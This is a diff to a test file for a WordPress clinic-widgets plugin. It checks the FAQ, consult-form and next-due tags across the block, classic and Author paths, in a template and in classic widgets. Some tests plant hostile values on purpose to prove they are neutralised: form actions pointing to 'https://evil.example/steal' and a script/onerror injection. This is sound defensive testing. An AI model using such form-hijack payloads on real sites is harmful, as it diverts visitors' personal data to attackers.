@@ -1,6 +1,7 @@
 // The plugin on a real WordPress 6.1 (Debian's packages, default theme Twenty Twenty-Three):
 // pages made through the block path, the classic path (shortcodes through wpautop) and by an
-// Author (kses applied), each checked in Chromium; the settings page; server-rendered FAQ packs.
+// Author (kses applied), each checked in Chromium; the settings page; server-rendered FAQ packs;
+// tags typed in a template and in classic widgets.
 import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
 import { cpSync, existsSync, mkdirSync, readFileSync } from 'node:fs';
@@ -14,6 +15,14 @@ const SHOTS = process.env.BLUSH_WP_SHOTS ?? join(ROOT, 'dist/wordpress-screensho
 const ACCENT = '#0a6e62';
 const PHONE = '(310) 555-0142';
 const log = (line) => console.log(`# ${line}`);
+const EVIL = 'https://evil.example/steal';
+
+/** A last treatment 60 days before today on this machine's clock: the next one is always ahead. */
+const LAST_TREATMENT = (() => {
+  const day = new Date();
+  day.setDate(day.getDate() - 60);
+  return [day.getFullYear(), day.getMonth() + 1, day.getDate()].map((part) => String(part).padStart(2, '0')).join('-');
+})();
 
 let site;
 let endpoint;
@@ -87,6 +96,16 @@ before(async () => {
     '<blush-consult-form action="https://evil.example/steal" headers=\'{"X-Steal":"1"}\' success-url="https://evil.example/"></blush-consult-form>',
     '<script>window.__evil = 1</script><img src="x" onerror="window.__evil=1" alt="" />',
   ].join('\n\n');
+  // Form destinations in a shortcode and in a block's attributes, which kses does not read.
+  const routingPage = (action, success) => [
+    `<!-- wp:shortcode -->\n[blush_consult_form action="${action}" success_url="${success}" class="from-shortcode"]\n<!-- /wp:shortcode -->`,
+    `<!-- wp:blush/consult-form {"action":"${action}","success_url":"${success}","class":"from-block"} /-->`,
+  ].join('\n\n');
+  // A category archive whose template (edited in the site editor) has tags in a Custom HTML block.
+  const template = readFileSync('/usr/share/wordpress/wp-content/themes/twentytwentythree/templates/archive.html', 'utf8').replace(
+    '<!-- wp:query ',
+    '<!-- wp:html -->\n<blush-faq id="faq-template"><details><summary>Do you open on Saturdays?</summary><p>Yes, from nine to two.</p></details><details><summary>Is there parking?</summary><p>Free valet at the entrance.</p></details></blush-faq>\n<blush-consult-form id="form-template"></blush-consult-form>\n<!-- /wp:html -->\n\n<!-- wp:query ',
+  );
 
   const created = site.php(`
     update_option('blush_widgets_options', blush_widgets_sanitize_options(array(
@@ -102,12 +121,21 @@ before(async () => {
       'block' => $make('Botox (blocks)', ${phpString(blockPage)}, 1),
       'classic' => $make('Botox (classic)', ${phpString(classicPage)}, 1),
       'author' => $make('Botox (author)', ${phpString(authorPage)}, $author, 'post'),
+      'authorRouting' => $make('Consultations (author)', ${phpString(routingPage(EVIL, 'https://evil.example/thanks'))}, $author, 'post'),
+      'adminRouting' => $make('Consultations (admin)', ${phpString(routingPage(`${endpoint.url}/wp-leads-admin`, `${site.url}/thank-you/`))}, 1),
     );
+    $news = wp_insert_term('Clinic news', 'category', array('slug' => 'clinic-news'));
+    $newsPost = $make('New opening hours', 'We now open on Saturdays.', 1, 'post');
+    wp_set_post_categories($newsPost, array($news['term_id']));
+    $tpl = wp_insert_post(wp_slash(array('post_type' => 'wp_template', 'post_name' => 'category-clinic-news', 'post_title' => 'Clinic news', 'post_status' => 'publish', 'post_content' => ${phpString(template)})), true);
+    if (is_wp_error($tpl) || is_wp_error($news)) { echo 'ERROR template'; exit; }
+    wp_set_post_terms($tpl, 'twentytwentythree', 'wp_theme');
     $out = array();
     foreach ($ids as $key => $id) {
       if (is_wp_error($id)) { echo 'ERROR ' . $id->get_error_message(); exit; }
       $out[$key] = array('id' => $id, 'url' => get_permalink($id), 'stored' => get_post($id)->post_content);
     }
+    $out['archive'] = array('url' => get_category_link($news['term_id']));
     echo wp_json_encode($out);
   `);
   pages = JSON.parse(created.slice(created.indexOf('{')));
@@ -165,7 +193,7 @@ describe('block editor path (admin)', () => {
   it('Custom HTML block FAQ works', () => checkFaq(page, '#faq-html', { question: 'Do you offer payment plans?', answer: 'financing partner' }));
   it('before/after block works', () => checkSlider(page, 'blush-before-after >> nth=0'));
   it('gallery block (JSON src) works', () => checkGallery(page, 'blush-gallery'));
-  it('next-due block works', () => checkNextDue(page, 'blush-next-due'));
+  it('next-due block works', () => checkNextDue(page, 'blush-next-due', { date: LAST_TREATMENT }));
   it('consult-form block gets the settings and validates', async () => {
     const form = page.locator('blush-consult-form');
     assert.equal(await form.getAttribute('action'), `${endpoint.url}/wp-leads`);
@@ -202,7 +230,7 @@ describe('classic path (shortcodes through wpautop and wptexturize)', () => {
   it('FAQ shortcode works', () => checkFaq(page, 'blush-faq', { question: pack.languages.en[0].question, answer: null }));
   it('before/after shortcode works', () => checkSlider(page, 'blush-before-after >> nth=0'));
   it('gallery shortcode with nested cases works', () => checkGallery(page, 'blush-gallery'));
-  it('next-due shortcode works', () => checkNextDue(page, 'blush-next-due'));
+  it('next-due shortcode works', () => checkNextDue(page, 'blush-next-due', { date: LAST_TREATMENT }));
   it('a consultation request reaches the clinic endpoint from the settings', async () => {
     const sent = endpoint.submissions.length;
     const form = page.locator('blush-consult-form');
@@ -253,12 +281,66 @@ describe('as an Author (no unfiltered_html: kses applies)', () => {
   it('FAQ works', () => checkFaq(page, 'blush-faq', { question: 'Is it safe?', answer: 'licensed injector' }));
   it('before/after works', () => checkSlider(page, 'blush-before-after >> nth=0'));
   it('gallery works', () => checkGallery(page, 'blush-gallery'));
-  it('next-due works', () => checkNextDue(page, 'blush-next-due'));
+  it('next-due works', () => checkNextDue(page, 'blush-next-due', { date: LAST_TREATMENT }));
   it('consult-form works', () => checkConsultForm(page, 'blush-consult-form', { submissions: endpoint.submissions }));
   it('nothing the author smuggled in runs', async () => {
     assert.equal(await page.evaluate(() => window.__evil), undefined);
     assert.deepEqual(console.pageErrors, []);
   });
+  it("an Author's shortcode and block send to the clinic's endpoint, not the action and success_url they set", async () => {
+    assert.ok(pages.authorRouting.stored.includes(EVIL), 'kses removed the action itself: this case would prove nothing');
+    const forms = await renderedForms(pages.authorRouting.url);
+    assert.deepEqual(forms, [
+      { class: 'from-shortcode', action: `${endpoint.url}/wp-leads`, success: null },
+      { class: 'from-block', action: `${endpoint.url}/wp-leads`, success: null },
+    ]);
+  });
+  it("an administrator's shortcode and block keep their own action and success_url", async () => {
+    const forms = await renderedForms(pages.adminRouting.url);
+    assert.deepEqual(forms, [
+      { class: 'from-shortcode', action: `${endpoint.url}/wp-leads-admin`, success: `${site.url}/thank-you/` },
+      { class: 'from-block', action: `${endpoint.url}/wp-leads-admin`, success: `${site.url}/thank-you/` },
+    ]);
+  });
+});
+
+/** The `<blush-consult-form>` tags of a page as the server sent them. */
+async function renderedForms(url) {
+  const html = await (await fetch(url)).text();
+  const attribute = (tag, name) => tag.match(new RegExp(`\\s${name}="([^"]*)"`))?.[1] ?? null;
+  return [...html.matchAll(/<blush-consult-form\b[^>]*>/g)].map(([tag]) => ({ class: attribute(tag, 'class'), action: attribute(tag, 'action'), success: attribute(tag, 'success-url') }));
+}
+
+describe('tags outside post content', () => {
+  it('a Custom HTML block in a category archive template loads the script once and works', async () => {
+    const { page, console } = await open('archive');
+    try {
+      await waitForUpgrade(page, ['blush-faq', 'blush-consult-form']);
+      const scripts = await page.evaluate(() => [...document.querySelectorAll('script[src*="blush-widgets/assets/"]')].map((s) => s.type));
+      assert.deepEqual(scripts, ['module']);
+      await checkFaq(page, '#faq-template', { question: 'Do you open on Saturdays?', answer: 'nine to two' });
+      assert.equal(await page.locator('#form-template').getAttribute('action'), `${endpoint.url}/wp-leads`);
+      assert.deepEqual(console.pageErrors, []);
+    } finally {
+      await page.close();
+    }
+  });
+  for (const [widget, instance] of [
+    ['WP_Widget_Custom_HTML', { title: '', content: '<blush-consult-form></blush-consult-form>' }],
+    ['WP_Widget_Text', { title: '', text: `[blush_consult_form action="${EVIL}"]`, filter: true, visual: true }],
+  ]) {
+    it(`a classic ${widget} enqueues the script and its form sends to the settings endpoint`, () => {
+      const printed = site.php(`
+        ob_start();
+        the_widget('${widget}', json_decode(${phpString(JSON.stringify(instance))}, true));
+        echo wp_json_encode(array('html' => ob_get_clean(), 'enqueued' => wp_script_is('blush-widgets', 'enqueued')));
+      `);
+      const out = JSON.parse(printed.slice(printed.indexOf('{')));
+      assert.equal(out.enqueued, true, `script not enqueued for ${out.html}`);
+      assert.match(out.html, new RegExp(`<blush-consult-form[^>]* action="${endpoint.url}/wp-leads"`));
+      assert.ok(!out.html.includes('evil.example'), out.html);
+    });
+  }
 });
 
 describe('settings page', () => {
